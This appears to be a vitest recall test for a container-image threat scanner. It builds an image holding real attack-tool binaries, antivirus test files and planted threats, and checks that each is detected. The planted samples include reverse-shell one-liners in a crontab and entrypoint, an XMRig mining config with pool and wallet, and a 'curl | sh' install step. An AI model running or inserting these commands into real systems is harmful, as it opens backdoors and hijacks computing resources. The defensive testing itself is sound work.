/**
 * Recall of the static threat detectors on an image built from real third-party binaries (Debian's attack tools,
 * ClamAV's test PE files) plus planted miner configs, reverse shells and secrets: every one found, with the right
 * category, through the same scan path the CLI takes (YARA rules bundled, image checks, merge with whiteouts).
 */
import { readFileSync } from 'node:fs';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scanReference } from '../../../src/scan/scan.js';
import type { Finding, FindingCategory, Report } from '../../../src/model/index.js';
import { debianPackageDir } from '../../support/debian-packages.js';
import { writeOciArchive, type EntrySpec } from '../../support/image-builder.js';
import { expectValidReport } from '../../support/report-schema.js';

const EICAR = String.raw`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`;

function debFile(pkg: string, path: string): Buffer {
  return readFileSync(join(debianPackageDir(pkg), path));
}

const tools: [pkg: string, path: string][] = [
  ['nmap', 'usr/bin/nmap'],
  ['masscan', 'usr/bin/masscan'],
  ['hydra', 'usr/bin/hydra'],
  ['john', 'usr/sbin/john'],
  ['ncat', 'usr/bin/ncat'],
  ['socat', 'usr/bin/socat'],
];

const MINER_CONFIG = JSON.stringify(
  {
    autosave: true,
    'donate-level': 1,
    cpu: { enabled: true, 'max-threads-hint': 100 },
    pools: [{ url: 'stratum+tcp://pool.supportxmr.com:3333', user: '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A', pass: 'x', keepalive: true }],
  },
  null,
  2,
);

let dir: string;
let report: Report;

function on(path: string, category?: FindingCategory): Finding[] {
  return report.findings.filter((f) => f.path === path && (category === undefined || f.category === category));
}

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'detonate-recall-'));
  const clam = (name: string): EntrySpec => ({ name: `srv/samples/${name}`, content: debFile('clamav-testfiles', `usr/share/clamav-testfiles/${name}`), mode: 0o644 });
  const archive = join(dir, 'recall.oci.tar');
  await writeOciArchive(archive, {
    layers: [
      {
        createdBy: '/bin/sh -c apt-get install -y nmap masscan hydra john ncat socat',
        entries: tools.map(([pkg, path]) => ({ name: path, content: debFile(pkg, path), mode: 0o755 })),
      },
      {
        createdBy: 'COPY tools /usr/local/bin/ # renamed copies',
        entries: [
          { name: 'usr/local/bin/kworker', content: debFile('nmap', 'usr/bin/nmap'), mode: 0o755 },
          { name: 'usr/local/bin/systemd-helper', content: debFile('masscan', 'usr/bin/masscan'), mode: 0o755 },
          { name: 'tmp/.x/relay', content: debFile('socat', 'usr/bin/socat'), mode: 0o755 },
        ],
      },
      {
        createdBy: 'COPY samples /srv/samples',
        entries: [
          clam('clam.exe'),
          clam('clam-upx.exe'),
          { name: 'srv/samples/eicar.com', content: EICAR, mode: 0o644 },
          { name: 'opt/.cache/config.json', content: MINER_CONFIG, mode: 0o644 },
          { name: 'etc/cron.d/update', content: '* * * * * root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n', mode: 0o644 },
          { name: 'docker-entrypoint.sh', content: '#!/bin/sh\nset -e\nnc -e /bin/sh 198.51.100.4 4444 &\nexec "$@"\n', mode: 0o755 },
          { name: 'root/.bash_history', content: 'ls\n./xmrig -o stratum+tcp://pool.example.test:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1\n', mode: 0o600 },
        ],
      },
      {
        createdBy: '/bin/sh -c curl -fsSL https://get.example.test/install.sh | sh',
        entries: [{ name: 'usr/local/bin/hydra', content: debFile('hydra', 'usr/bin/hydra'), mode: 0o755 }],
      },
      {
        createdBy: '/bin/sh -c rm /usr/local/bin/hydra',
        entries: [{ name: 'usr/local/bin/.wh.hydra', content: '' }],
      },
    ],
    config: { Cmd: ['/docker-entrypoint.sh'], Env: ['PATH=/usr/bin:/bin'], User: '' },
  });
  const cacheDir = join(dir, 'cache');
  [report] = (await scanReference(`oci-archive:${archive}`, { cacheDir })) as [Report];
}, 180_000);

afterAll(() => { if (!process.env.KEEP) rmSync(dir, { recursive: true, force: true }); });

describe('recall on real attack tools and planted threats', () => {
  it('the report validates against the report schema', () => {
    expectValidReport(report);
  });

  it.each(tools)('%s at its Debian path is a hacking tool', (_pkg, path) => {
    expect(on(path, 'hacking-tool').length).toBeGreaterThan(0);
  });

  it.each([
    ['nmap renamed kworker', 'usr/local/bin/kworker'],
    ['masscan renamed systemd-helper', 'usr/local/bin/systemd-helper'],
    ['socat renamed and hidden', 'tmp/.x/relay'],
  ])('%s is still found by content', (_what, path) => {
    expect(on(path, 'hacking-tool').length).toBeGreaterThan(0);
  });

  it('a tool dropped in one layer and deleted in the next is reported, marked removed', () => {
    const hydra = on('usr/local/bin/hydra', 'hacking-tool');
    expect(hydra.length).toBeGreaterThan(0);
    expect(hydra[0]).toMatchObject({ layer: 3, removedInLayer: 4 });
  });

  it('ClamAV test PE: windows-pe, and windows-malware because it carries the test signature', () => {
    expect(on('srv/samples/clam.exe', 'windows-pe')).toHaveLength(1);
    expect(on('srv/samples/clam.exe', 'windows-malware').length).toBeGreaterThan(0);
  });

  it('the UPX-packed ClamAV PE is a Windows executable flagged as packed', () => {
    expect(on('srv/samples/clam-upx.exe', 'windows-pe')).toHaveLength(1);
    expect(on('srv/samples/clam-upx.exe', 'suspicious').some((f) => /upx/i.test(f.rule))).toBe(true);
  });

  it('the EICAR string is malware', () => {
    expect(on('srv/samples/eicar.com', 'malware').length).toBeGreaterThan(0);
  });

  it('the XMRig config is a cryptominer with its pool as evidence', () => {
    const miner = on('opt/.cache/config.json', 'cryptominer');
    expect(miner.length).toBeGreaterThan(0);
    expect(JSON.stringify(miner.map((f) => f.evidence))).toContain('pool.supportxmr.com');
  });

  it('reverse shells in a crontab, the entrypoint and shell history are backdoors or miners', () => {
    expect(on('etc/cron.d/update', 'backdoor').length).toBeGreaterThan(0);
    expect(JSON.stringify(on('etc/cron.d/update', 'backdoor')[0]!.evidence)).toContain('203.0.113.7');
    expect(on('docker-entrypoint.sh', 'backdoor').length).toBeGreaterThan(0);
    expect(on('root/.bash_history', 'cryptominer').length).toBeGreaterThan(0);
  });

  it('image-level checks: root user and curl | sh in the history', () => {
    expect(report.findings.some((f) => f.rule === 'misconfiguration/root-user')).toBe(true);
    const pipe = report.findings.find((f) => f.rule === 'misconfiguration/curl-pipe-shell');
    expect(pipe).toBeDefined();
    expect(pipe!.layer).toBe(3);
  });

  it('the verdict is malicious with the categories found', () => {
    expect(report.verdict.malicious).toBe(true);
    expect(report.verdict.categories).toEqual(expect.arrayContaining(['backdoor', 'cryptominer', 'hacking-tool', 'malware', 'windows-malware', 'windows-pe']));
  });

  it('every finding names its rule and carries evidence a person can check', () => {
    for (const f of report.findings) {
      expect(f.rule).toMatch(/^[a-z-]+\/\S+$/i);
      expect(f.source).toBe('static');
      if (f.path) expect(f.sha256 ?? f.rule.startsWith('misconfiguration/')).toBeTruthy();
    }
  });
});
